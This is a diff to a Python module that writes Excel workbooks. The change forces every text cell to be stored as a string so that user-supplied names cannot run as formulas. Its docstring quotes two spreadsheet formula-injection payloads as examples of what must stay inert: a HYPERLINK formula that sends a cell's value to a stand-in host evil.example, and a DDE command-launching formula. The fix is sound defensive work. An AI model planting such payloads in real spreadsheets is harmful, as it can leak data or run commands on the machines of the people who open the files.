@@ -4,6 +4,12 @@
 row, numbers as numbers (integers stay integers), empty cells for missing values, columns sized to their content. A table longer than Excel's
 row limit is cut there and the sheet says so. The bytes depend only on the tables: document properties and
 zip timestamps are fixed.
+
+Every text cell is written as text, never as a formula (:func:`text_cell`): names, codes and relations come
+from holder files and classroom participants, and a name like ``=HYPERLINK("http://evil.example/?x="&A1)``
+or ``=cmd|' /C calc'!A0`` must show as those characters, not run. The text is kept exactly; only characters
+that XML cannot hold at all (control characters other than tab, line feed and carriage return) are replaced
+by U+FFFD, and a text longer than Excel's 32,767 characters a cell is cut there. This module is the one place workbooks are written (``report.xlsx``, ``compare.xlsx``).
 """
 
 from __future__ import annotations
@@ -18,11 +24,13 @@ from collections.abc import Sequence
 import numpy as np
 import pandas as pd
 
-__all__ = ["MAX_ROWS", "sheet_title", "workbook_bytes"]
+__all__ = ["MAX_ROWS", "sheet_title", "text_cell", "workbook_bytes"]
 
 MAX_ROWS = 1_048_575  # Excel's limit less the header row
+MAX_CELL_TEXT = 32_767  # Excel's limit on the characters of a cell
 _FIXED_TIME = dt.datetime(2021, 1, 1, 0, 0, 0)
 _BAD = re.compile(r"[\[\]:*?/\\]")
+_NOT_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
 
 
 def sheet_title(text: str, used: set[str]) -> str:
@@ -36,13 +44,35 @@ def sheet_title(text: str, used: set[str]) -> str:
     return title
 
 
-def _cell(value: object) -> object:
+def text_cell(ws: object, text: str, font: object | None = None) -> object:
+    """A write-only cell of ``ws`` holding ``text`` as a string, whatever its first character (``=``,
+    ``+``, ``-``, ``@``, tab, CR): openpyxl would otherwise store a leading ``=`` as a live formula."""
+    from openpyxl.cell import WriteOnlyCell
+
+    c = WriteOnlyCell(ws)
+    c._value = _NOT_XML.sub("\ufffd", text[:MAX_CELL_TEXT])  # the value setter would infer a formula from "="
+    c.data_type = "s"
+    if font is not None:
+        c.font = font
+    return c
+
+
+def _value(value: object) -> object:
+    """A plain value for a cell: numbers, booleans, dates; None for missing values; anything else as text."""
     if value is None or value is pd.NA or value is pd.NaT:
         return None
     if isinstance(value, np.generic):
         value = value.item()
     if isinstance(value, float) and (math.isnan(value) or math.isinf(value)):
         return None
+    return value
+
+
+def _cell(ws: object, value: object) -> object:
+    """What to append for ``value``: a text cell for every string, the plain value otherwise."""
+    value = _value(value)
+    if isinstance(value, str):
+        return text_cell(ws, value)
     return value
 
 
@@ -60,7 +90,6 @@ def workbook_bytes(sheets: Sequence[tuple[str, pd.DataFrame]], notes: dict[str, 
     Written in openpyxl's streaming (write-only) mode: about 100,000 cells a second.
     """
     from openpyxl import Workbook
-    from openpyxl.cell import WriteOnlyCell
     from openpyxl.styles import Font
     from openpyxl.utils import get_column_letter
 
@@ -75,25 +104,18 @@ def workbook_bytes(sheets: Sequence[tuple[str, pd.DataFrame]], notes: dict[str, 
         data = df.iloc[: MAX_ROWS - first] if cut else df
         for j, col in enumerate(data.columns, start=1):
             sample = [str(col), *data.iloc[:200, j - 1].tolist()]
-            ws.column_dimensions[get_column_letter(j)].width = _width([_cell(v) for v in sample])
+            ws.column_dimensions[get_column_letter(j)].width = _width([_value(v) for v in sample])
         ws.freeze_panes = f"A{first + 1}"
         if note or cut:
             text = note or ""
             if cut:
                 text += f" (cut at {len(data):,} of {len(df):,} rows: Excel's limit)"
-            c = WriteOnlyCell(ws, value=text.strip())
-            c.font = italic
-            ws.append([c])
+            ws.append([text_cell(ws, text.strip(), italic)])
             if note:
                 ws.append([])
-        header = []
-        for col in data.columns:
-            c = WriteOnlyCell(ws, value=str(col))
-            c.font = bold
-            header.append(c)
-        ws.append(header)
+        ws.append([text_cell(ws, str(col), bold) for col in data.columns])
         for row in data.itertuples(index=False, name=None):
-            ws.append([_cell(v) for v in row])
+            ws.append([_cell(ws, v) for v in row])
     if not wb.worksheets:
         wb.create_sheet("Empty")
     wb.properties.creator = "rights-market"
@@ -105,12 +127,17 @@ def workbook_bytes(sheets: Sequence[tuple[str, pd.DataFrame]], notes: dict[str, 
 
 
 def _fixed_zip(data: bytes) -> bytes:
-    """The same zip with fixed timestamps (and a fixed modification date in the core properties)."""
+    """The same zip with fixed timestamps (and a fixed modification date in the core properties), carriage
+    returns in cell text kept."""
     src = zipfile.ZipFile(io.BytesIO(data))
     out = io.BytesIO()
     with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
         for info in src.infolist():
             content = src.read(info.filename)
+            if info.filename.startswith("xl/worksheets/"):
+                # a carriage return in a text cell: as a character reference, since XML readers turn a raw
+                # one into a line feed (raw ones occur only in cell text: attributes are escaped already)
+                content = content.replace(b"\r", b"&#13;")
             if info.filename == "docProps/core.xml":
                 content = re.sub(rb"(<dcterms:modified[^>]*>)[^<]*(</dcterms:modified>)",
                                  rb"\g<1>2021-01-01T00:00:00Z\g<2>", content)
